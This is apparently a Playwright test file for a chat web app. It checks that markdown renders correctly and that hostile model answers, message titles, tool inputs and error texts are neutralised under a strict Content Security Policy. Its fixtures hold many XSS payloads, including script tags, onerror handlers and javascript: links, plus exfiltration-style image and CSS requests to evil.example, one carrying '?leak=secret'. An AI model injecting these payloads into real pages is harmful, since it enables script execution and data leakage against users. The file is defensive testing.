"""Markdown is shown as it is meant; whatever tries to run, to load or to lead astray does nothing.

The witness of every window (see `Witness`) makes a test fail when a dialog opens, another host is asked, or the
policy of the page is broken.
"""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

from tests.browser.account import Account
from tests.browser.chat import Chat
from tests.browser.conftest import Window
from tests.browser.witness import Witness
from tests.kit.model import ScriptedModel

MARKDOWN = """# A heading

Some **bold**, some *emphasis*, some `code`, and a [link](https://example.org/page "title").

- one
- two
  - nested

1. first
2. second

> quoted

| left | right |
| --- | ---: |
| a | 1 |
| b | 22 |

- [x] done
- [ ] open

```python
def hello() -> str:
    return "hello"  # a comment
```

~~gone~~ and https://example.org/bare
"""

EVIL = """<script>alert('script')</script>
<img src=x onerror="alert('img')">
<svg onload="alert('svg')"></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<a href="javascript:alert('anchor')">raw</a>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="q"></form>

[click](javascript:alert('link'))
[data](data:text/html,<script>alert('data')</script>)
[vb](vbscript:msgbox('vb'))
![pixel](https://evil.example/pixel.png?leak=secret)
![broken](http://[)
![relative](//evil.example/pixel.png)
[ref]: javascript:alert('ref'
[mail](mailto:somebody@example.org)

<https://example.org/auto>
"""


@pytest.fixture
def plays(model: ScriptedModel):
    """Makes the model answer a question with exactly this text."""

    def play(question: str, text: str) -> None:
        model.script({"rules": [{"user": question, "replies": [{"text": text}]}]})

    yield play
    model.unscript()


async def test_markdown_is_shown_as_it_is_meant(chat: Chat, plays) -> None:
    plays("show markdown", MARKDOWN)
    await chat.ask("show markdown")
    prose = chat.prose
    await expect(prose.get_by_role("heading", name="A heading")).to_be_visible()
    await expect(prose.locator("strong")).to_have_text("bold")
    await expect(prose.get_by_role("cell", name="22")).to_be_visible()
    await expect(prose.locator("li li")).to_have_text("nested")
    await expect(prose.get_by_role("checkbox")).to_have_count(2)
    link = prose.get_by_role("link", name="link", exact=True)
    await expect(link).to_have_attribute("href", "https://example.org/page")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(link).to_have_attribute("target", "_blank")
    block = prose.locator(".code-block")
    await expect(block.locator(".code-language")).to_have_text("python")
    await expect(block.locator(".hljs-keyword").first).to_have_text("def")
    await chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await block.get_by_role("button", name="Copy").click()
    await expect(block.get_by_role("button", name="Copied")).to_be_visible()
    copied = await chat.page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("def hello() -> str:\n    return")


async def test_an_evil_answer_does_nothing(chat: Chat, plays) -> None:
    plays("be evil", EVIL)
    await chat.ask("be evil")
    prose = chat.prose
    await expect(prose).to_contain_text("<script>alert('script')</script>")
    for tag in ("script", "iframe", "img", "svg", "style", "form", "input", "object"):
        await expect(prose.locator(tag)).to_have_count(0)
    addresses = await prose.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href') ?? '')")
    schemes = {address.split(":")[0] for address in addresses if ":" in address}
    assert schemes <= {"http", "https", "mailto"}
    assert await prose.locator("*").evaluate_all(
        "all => all.every(one => [...one.attributes].every(attribute => !attribute.name.startsWith('on')))"
    )
    await expect(prose).to_contain_text("Image not loaded: pixel")


HOSTILE = (
    EVIL
    + """
![](http://evil.example/1.png) ![a](https://evil.example/2.svg#x) [![b](https://evil.example/3.png)](https://evil.example/4)
![data](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://evil.example/5'/%3E%3C/svg%3E)
<svg><image href="https://evil.example/6"/><use href="https://evil.example/7#x"/><style>@import "https://evil.example/8"</style></svg>
<link rel="stylesheet" href="https://evil.example/9"><link rel="preload" as="image" href="https://evil.example/10">
<video src="https://evil.example/11" poster="https://evil.example/12"></video><object data="https://evil.example/13"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/14"><base href="https://evil.example/15">
<div style="background: url(https://evil.example/16)">x</div><picture><source srcset="https://evil.example/17"></picture>

[plain](https://evil.example/18) <https://evil.example/19> https://evil.example/20 www.evil.example/21

```mermaid
graph TD; A["<img src=https://evil.example/22>"] --> B; click A "https://evil.example/23" _self
%%{init: {"themeCSS": "@import url(https://evil.example/24)"}}%%
```

```svg
<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/25"/></svg>
```

```html
<img src="https://evil.example/26"><script src="https://evil.example/27"></script>
```

$\\includegraphics{https://evil.example/28.png}$ and $\\href{https://evil.example/29}{x}$ and $\\sqrt{x^2}$

$$
\\htmlStyle{background: url(https://evil.example/30)}{x} + \\url{https://evil.example/31}
$$

| ![t](https://evil.example/32) | [l](https://evil.example/33) |
| --- | --- |
| <img src="https://evil.example/34"> | `![c](https://evil.example/35)` |

[^n]: ![note](https://evil.example/36)

See[^n].
"""
)


async def test_foreign_requests_from_hostile_text_are_none(chat: Chat, model: ScriptedModel) -> None:
    """Counted, not only complained of: markdown, SVG, HTML, Mermaid-like code, formulas, links, images, tools."""
    foreign: list[str] = []
    hosts = re.compile(r"^(https?|wss?)://(?!127\.0\.0\.1[:/])")
    chat.page.context.on("request", lambda request: hosts.match(request.url) and foreign.append(request.url))
    tools = [{"name": "teleport", "arguments": {"url": "https://evil.example/40.png", "html": HOSTILE}}]
    model.script({"rules": [{"user": "be hostile", "replies": [{"tools": tools}, {"text": HOSTILE}]}]})
    await chat.ask(f"be hostile {HOSTILE}")
    model.unscript()
    await expect(chat.prose.locator(".katex math").first).to_be_attached()
    await expect(chat.prose.locator(".code-block")).to_have_count(3)
    for line in await chat.answer.locator("summary").all():
        await line.click()
    for link in (await chat.prose.locator("a").all())[:8]:
        await link.hover()
    await chat.page.locator(".scroller").evaluate("box => { box.scrollTop = 0 }")
    await chat.page.reload()
    await expect(chat.prose.locator(".katex math").first).to_be_attached()
    await expect(
        chat.page.locator("article :is(img, image, iframe, object, video, link, style, script, base)")
    ).to_have_count(0)
    assert foreign == []


async def test_an_evil_message_and_title_do_nothing(chat: Chat, account: Account) -> None:
    evil = "<img src=x onerror=alert(1)><script>alert(2)</script> [x](javascript:alert(3)) **not bold**"
    await chat.ask(f"{evil} [[tokens=3]]")
    await expect(chat.questions).to_contain_text(evil)
    await expect(chat.questions.locator("img, script, a, strong")).to_have_count(0)
    row = chat.page.get_by_role("listitem").filter(has_text="alert(1)")
    await row.hover()
    await row.get_by_role("button", name="Actions for").click()
    await chat.page.get_by_role("menuitem", name="Rename").click()
    await chat.page.get_by_role("textbox", name="Name of the thread").fill(evil)
    await chat.page.keyboard.press("Enter")
    await expect(chat.page.get_by_role("heading", level=1)).to_have_text(evil)
    await chat.page.reload()
    await expect(chat.page.get_by_role("heading", level=1)).to_have_text(evil)
    await expect(chat.page.get_by_role("listitem").locator("img, script")).to_have_count(0)


async def test_evil_tool_input_output_and_names_do_nothing(chat: Chat, model: ScriptedModel) -> None:
    evil = "<img src=x onerror=alert(1)>"
    calls = [{"name": "calculator", "arguments": {"expression": evil}}, {"name": f"{evil}<b>x</b>", "arguments": {}}]
    model.script({"rules": [{"user": "call evil", "replies": [{"tools": calls}, {"text": "Done."}]}]})
    await chat.ask("call evil")
    model.unscript()
    for line in await chat.answer.locator("summary").all():
        await line.click()
    await expect(chat.answer.locator("pre").first).to_contain_text(evil)
    await expect(chat.answer.locator("img, script, b")).to_have_count(0)


async def test_an_evil_error_text_does_nothing(chat: Chat) -> None:
    await chat.page.route(
        "**/turn",
        lambda route: route.fulfill(status=422, json={"error": "x", "message": "<img src=x onerror=alert(1)>"}),
    )
    await chat.say("anything")
    await expect(chat.alert).to_contain_text("<img src=x onerror=alert(1)>")


async def test_the_page_comes_with_a_strict_policy_that_is_enforced_and_seen_by_the_witness(window: Window) -> None:
    chat = await window()
    answer = await chat.page.goto("/sign-in")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff"

    own = Witness(chat.page.url)
    await own.watch(chat.page.context)
    ran = await chat.page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'window.ran = true';
        document.head.append(script);
        return window.ran === true;
    }""")
    assert not ran
    assert any("Content Security Policy" in complaint for complaint in own.complaints)
    chat.forgiven.append("Content Security Policy")


async def test_nobody_may_frame_the_page(window: Window) -> None:
    chat = await window()
    answer = await chat.page.goto("/sign-in")
    assert answer is not None
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
